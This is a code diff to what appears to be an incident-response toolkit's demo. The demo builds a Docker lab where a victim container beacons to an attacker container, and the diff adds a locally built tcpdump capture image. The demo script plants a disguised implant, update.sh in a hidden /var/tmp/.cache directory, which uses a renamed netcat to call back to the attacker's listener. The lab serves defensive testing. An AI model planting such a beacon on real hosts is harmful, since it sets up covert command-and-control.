@@ -22,9 +22,10 @@ from typing import Any
 
 import docker
 
-from irkit import contain
+from irkit import config, contain
 from irkit.bundle.sshsig import generate_key, load_signer, load_trusted_keys
 from irkit.bundle.verify import TrustPolicy, VerifyReport, verify_bundle
+from irkit.capture.image import build_capture_image
 from irkit.engine.docker import engine_errors
 from irkit.engine.host import Host
 from irkit.engine.images import ensure_busybox_image, has_image
@@ -43,11 +44,17 @@ IMPLANT_DIR = "/var/tmp/.cache"
 BEACON_WAIT = 15.0
 PLAYBOOK = "contain-and-collect"
 
-_ATTACKER = f"while true; do nc -l -p {PORT}; done"
+# The attacker holds the channel open (its stdin never ends), so the implant
+# beacons every second on one connection: the pcap shows it, then its drops.
+_ATTACKER = f"sleep 2147483647 | nc -l -p {PORT}"
 _WEB = f"""mkdir -p {IMPLANT_DIR}
 cp /bin/busybox {IMPLANT_DIR}/nc
 cat > {IMPLANT_DIR}/update.sh <<'EOF'
-while true; do (echo "beacon $(hostname)"; sleep 30) | {IMPLANT_DIR}/nc "$1" {PORT}; sleep 1; done
+while true; do
+  while true; do echo "beacon $(hostname) $(date +%s)"; sleep 0.25; done |
+    {IMPLANT_DIR}/nc "$1" {PORT}
+  sleep 1
+done
 EOF
 sh {IMPLANT_DIR}/update.sh "$ATTACKER" &
 echo "web: serving on :8080"
@@ -181,6 +188,20 @@ def teardown(host: Host, run: str, scenario: Scenario | None) -> tuple[str, ...]
     return tuple(leftovers + [f"container {c.name}" for c in remaining])
 
 
+def _ensure_capture_image(host: Host, say: Callable[[str], None]) -> None:
+    """The demo never reaches for a registry: without a local capture image it
+    builds irkit/capture:local from the host's tcpdump (kept, as a site would)."""
+    if any(
+        has_image(host.docker, name)
+        for name in (config.capture_image(), config.LOCAL_CAPTURE_IMAGE)
+    ):
+        return
+    if host.commands.which("tcpdump") is None:
+        return  # the capture falls back to the host method, or fails as a recorded step
+    say(f"building the capture image {config.LOCAL_CAPTURE_IMAGE} from the host's tcpdump")
+    build_capture_image(host.docker, host.commands)
+
+
 def run_demo(
     host: Host,
     out_dir: Path,
@@ -195,6 +216,7 @@ def run_demo(
     scenario: Scenario | None = None
     try:
         say("building the scenario: a web victim beaconing to an attacker")
+        _ensure_capture_image(host, say)
         scenario = build_scenario(host, run)
         say(f"victim {scenario.web}, attacker {scenario.attacker} at {scenario.attacker_ip}")
         runner, public_key = make_runner(host, scenario, out_dir, emit)
